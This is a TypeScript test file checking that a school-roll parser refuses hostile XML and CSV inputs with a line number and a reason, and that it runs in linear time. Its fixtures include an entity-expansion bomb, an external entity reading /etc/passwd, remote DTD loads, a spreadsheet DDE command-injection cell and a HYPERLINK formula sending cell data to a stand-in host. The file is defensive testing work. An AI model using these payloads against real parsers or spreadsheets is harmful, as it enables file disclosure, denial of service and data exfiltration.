import assert from 'node:assert/strict'
import { test } from 'node:test'
import { readRoll } from './read-roll.ts'
import { processorTime } from '../../../../test/processor-time.ts'

const MB = 1_000_000
const NAMED = '<Surname>Khan</Surname><Forename>Amina</Forename>'
const ctf = (inside: string, before = ''): string =>
  `<?xml version="1.0"?>\n${before}<CTfile><CTFpupilData><Pupil>${NAMED}${inside}</Pupil></CTFpupilData></CTfile>`
const bomb = `<!DOCTYPE x [\n<!ENTITY a "ha">\n${Array.from({ length: 9 }, (_, n) => `<!ENTITY a${n} "${'&a;'.repeat(10)}">`).join('\n')}\n]>\n`
const list = (cell: string): string => `Surname,Forename,UPN\nKhan,Amina,\nLee,Wei,${cell}\n`

const HOSTILE: [what: string, text: string | Uint8Array, line: number | null, why: RegExp][] = [
  ['an entity bomb', ctf('<UPN>&a9;</UPN>', bomb), 2, /entities of its own/],
  [
    'an external entity',
    ctf('<UPN>&x;</UPN>', '\n<!DOCTYPE x [<!ENTITY x SYSTEM "file:///etc/passwd">]>'),
    3,
    /can be made to do harm/,
  ],
  [
    'a remote document type',
    ctf('', '<!DOCTYPE CTfile SYSTEM "http://x.example/ctf.dtd">'),
    2,
    /document types/,
  ],
  [
    'a parameter entity',
    ctf('', '<!doctype x [<!ENTITY % p SYSTEM "http://x.example/">%p;]>'),
    2,
    /document types/,
  ],
  ['an entity nobody defined', ctf('\n<UPN>&nbsp;</UPN>'), 3, /broken here \(undefined entity/],
  ['deep nesting', ctf('<a>'.repeat(100_000)), 2, /nested more than 24 deep/],
  ['a huge attribute', ctf(`<UPN x="${'y'.repeat(MB)}"/>`), 2, /attributes/],
  [
    'many attributes',
    ctf(`<UPN ${Array.from({ length: 100_000 }, (_, n) => `a${n}="1"`).join(' ')}/>`),
    2,
    /attributes/,
  ],
  ['a huge value', ctf(`<UPN>${'y'.repeat(MB)}</UPN>`), 2, /longer than 4000/],
  ['a value in a million pieces', ctf(`<UPN>${'<!-- -->y'.repeat(100_000)}</UPN>`), 2, /longer than 4000/],
  [
    'a hundred contacts of one pupil',
    ctf(`<Contacts>${`<Contact>${NAMED}</Contact>`.repeat(100)}</Contacts>`),
    2,
    /more than 30 contacts/,
  ],
  ['an unbound prefix', ctf('<x:UPN/>'), 2, /broken/],
  ['a formula in a transfer file', ctf('<UPN>@SUM(A1)</UPN>'), 2, /formula/],
  ['a web page called a sheet', '<html><table><tr><td>Surname</td></tr></table></html>', 1, /web page/],
  ['a cell of a megabyte', list('y'.repeat(MB)), 3, /longer than 4000/],
  ['a quoted cell of a megabyte', list(`"${'y'.repeat(MB)}"`), 3, /longer than 4000/],
  ['a cell of a million line ends', list(`"${'\n'.repeat(MB)}"`), 3, /longer than 4000/],
  ['a million commas', `Surname,Forename\n${','.repeat(MB)}\n`, 2, /more than 200 cells/],
  ['a million quotation marks', list('"'.repeat(MB)), 3, /longer than 4000|never closed|straight after/],
  ['quotation marks in quotation marks', list(`"a"b"c"${'"d"'.repeat(100)}`), 3, /straight after a closing/],
  ['a mark that never closes', list(`"${'a,b\n'.repeat(100)}`), 3, /never closed/],
  ['empty bytes', 'Surname,Forename\nKhan,A\0mina\n', 2, /empty bytes/],
  ['a command in a cell', list("-2+3+cmd|' /C calc'!A0"), 3, /formula/],
  ['a link in a cell', list('"=HYPERLINK(""http://x.example?""&A1,""x"")"'), 3, /formula/],
  ['a formula behind a tab', list('"\t=1+1"'), 3, /tab/],
  ['a zip', Buffer.from('PK\x03\x04\x14\x00xl/workbook.xml', 'latin1'), null, /Excel workbook/],
  ['more lines than any school', `a,b\n${'c,d\n'.repeat(70_000)}`, 60_001, /more than 60000 lines/],
  [
    'two encodings',
    Buffer.concat([Buffer.from('Surname,Forename\nMüller,Zoë\n'), Buffer.from('L\xe9,Jos\xe9\n', 'latin1')]),
    3,
    /two encodings/,
  ],
]
for (const [what, text, line, why] of HOSTILE)
  test(`${what} is refused with the line and the reason`, () => {
    const bytes = typeof text === 'string' ? Buffer.from(text) : text
    const read = readRoll({ name: 'x', bytes }, { today: '2026-11-22', maxBytes: 20 * MB })
    assert.equal(read.is, 'refused')
    const [first] = 'refusals' in read ? read.refusals : []
    assert.match(first?.why ?? '', why)
    assert.equal(first?.line, line)
    assert.ok((first?.why.length ?? 999) < 300, 'a sentence, not the file')
  })

test('twice as much of what is hostile takes about twice as long', () => {
  const least = (text: string): number =>
    Math.min(
      ...Array.from({ length: 3 }, () => {
        const bytes = Buffer.from(text)
        const from = processorTime()
        readRoll({ name: 'x', bytes }, { today: '2026-11-22', maxBytes: 200 * MB })
        return processorTime() - from
      }),
    )
  const SHAPES: ((n: number) => string)[] = [
    n => `a,b\n${',"'.repeat(n)}`,
    n => `a,b\n${'"x",y\n'.repeat(n)}`,
    n => `a,b\n${'\n'.repeat(n)}`,
    n => `a;b\n${'" '.repeat(n)}`,
    n => ctf('<x/>'.repeat(n)),
    n => ctf('<!---->'.repeat(n)),
  ]
  for (const [at, shape] of SHAPES.entries()) {
    const [once, eightfold] = [least(shape(40_000)), least(shape(320_000))]
    // with room for noise: were it quadratic, it would be 64 times
    assert.ok(eightfold < 30 * Math.max(once, 5), `shape ${at}: ${once} ms, then ${eightfold} ms`)
  }
})
